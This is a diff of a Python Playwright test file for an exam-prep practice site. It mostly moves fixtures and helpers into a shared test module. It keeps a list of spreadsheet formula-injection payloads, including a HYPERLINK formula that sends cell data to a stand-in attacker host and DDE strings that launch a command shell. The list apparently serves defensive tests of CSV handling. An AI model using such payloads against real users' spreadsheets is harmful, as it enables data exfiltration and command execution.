@@ -20,10 +20,9 @@ from playwright.sync_api import expect
 
 from pipeline.stats.csvfile import read_table
 from schema.progress import PROGRESS_VERSION
-from tests.sitekit import OBJECTIVES, build_site, guarded_context, page_of
+from tests.kit.progress import DAY1, KEY, bank_by_id, practice_site, stored
+from tests.sitekit import guarded_context, page_of
 
-DAY1 = dt.datetime(2026, 11, 30, 12, 0, tzinfo=dt.UTC)
-KEY = f"exam-prep:demo:progress-{PROGRESS_VERSION}"
 WHEN = "2026-11-30T12:00:00.000Z"
 FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "\t=1+1", "\r=1+1", "'=1+1 (typed with its quote)"]
@@ -31,12 +30,12 @@ FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+cmd|' /C cal
 
 @pytest.fixture(scope="module")
 def built(tmp_path_factory) -> Path:
-    return build_site(tmp_path_factory.mktemp("site"), *OBJECTIVES, "mock_pool", exam="mock")
+    return practice_site(tmp_path_factory)
 
 
 @pytest.fixture(scope="module")
 def bank(built) -> dict[str, dict]:
-    return {q["id"]: q for q in json.loads((built / "bank.json").read_text(encoding="utf-8"))["questions"]}
+    return bank_by_id(built)
 
 
 @pytest.fixture
@@ -58,10 +57,6 @@ def progress(bank: dict, **parts) -> dict:
                            "session": {"day": "2026-11-30", "result": "right"}}},
            "log": [], "answers": [{"card_id": qid, "time": WHEN, "response": [["a"]], "score": 1, "mode": "practice", "hash": digest}], "mocks": []}
     return {**doc, **parts}
-
-
-def stored(page) -> dict | None:
-    return page.evaluate(f"() => JSON.parse(localStorage.getItem({json.dumps(KEY)}) || 'null')")
 
 
 def import_file(page, path: Path, text: str) -> str:
